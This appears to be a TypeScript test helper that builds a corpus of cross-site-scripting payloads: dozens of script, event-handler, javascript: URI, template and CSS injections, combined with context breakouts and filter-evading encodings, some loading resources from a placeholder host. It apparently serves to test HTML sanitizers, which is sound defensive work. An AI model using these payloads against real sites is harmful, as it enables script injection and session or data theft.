/**
 * What somebody writes where text is asked for so that a browser runs it: what would run, in every place that it first breaks out
 * of, each plain and in two more spellings of which all have their turn. Each calls `ran` with its own number, so whoever
 * watches knows which one ran.
 */
export function hostileTexts(): string[] {
  const shapes = FAMILIES.flatMap((family, f) =>
    CARRIERS.flatMap((carrier, c) =>
      [0, f + c, f + c + 4].map((n) => spelt(`${carrier}${family}`, n % SPELLINGS.length)),
    ),
  );
  return [...new Set(shapes)].map((shape, number) => shape.replaceAll("RUN", `ran(${number})`));
}

function spelt(text: string, spelling: number): string {
  return (SPELLINGS[spelling] ?? String)(text);
}

/** A host that nobody may ask for anything. */
export const ELSEWHERE = "e.test";

const FAMILIES = [
  "<script>RUN</script>",
  "<script src=//e.test></script>",
  "<img src=x onerror=RUN>",
  "<img src=//e.test/p>",
  "<svg onload=RUN>",
  "<svg><script>RUN</script>",
  "<svg><a xlink:href=javascript:RUN>x",
  "<details open ontoggle=RUN>",
  "<input autofocus onfocus=RUN>",
  "<video><source onerror=RUN>",
  "<audio src=x onerror=RUN>",
  "<style onload=RUN></style>",
  "<style>@import'//e.test'</style>",
  "<link rel=stylesheet href=//e.test>",
  "<iframe srcdoc='<script>RUN</script>'>",
  "<iframe src=javascript:RUN>",
  "<object data=//e.test>",
  "<embed src=//e.test>",
  "<a href=javascript:RUN>x</a>",
  "<a href=JaVaScRiPt&colon;RUN>x</a>",
  "<form><button formaction=javascript:RUN>x",
  "<base href=//e.test/>",
  "<meta http-equiv=refresh content=0;//e.test>",
  "<p data-xss style=background:url(//e.test)>",
  "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
  "<math><mtext><img src=x onerror=RUN>",
  "<img src=x onerror=RUN //",
  "javascript:RUN",
  "data:text/html,<script>RUN</script>",
  '";RUN//',
  "';RUN//",
  "[x](javascript:RUN)",
  '![x](x"onerror="RUN)',
  "{{constructor.constructor('RUN')()}}",
  "<%= RUN %>",
  "*{background:url(//e.test)}",
] as const;

/** The place that is left: none, an attribute, a script, a style, a comment, a text that holds no markup. */
const CARRIERS = ["", '">', "'>", "</script>", "</style>", "-->", "</textarea>"] as const;

const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<[a-z]+| on[a-z]+=|<\/[a-z]+>/g, (name) => name.toUpperCase()),
  (text) => text.replaceAll(/(<[a-z]+) /g, "$1/"),
  (text) => text.replaceAll(/(<[a-z]+) /g, "$1\n"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll(/[<>"]/g, (one) => encodeURIComponent(one)),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  // What composing a name (NFKC) makes of these is markup.
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  // Some readers drop what they do not know, after somebody has looked.
  (text) => text.replaceAll(/<([a-z])/g, "<\u200b$1"),
];
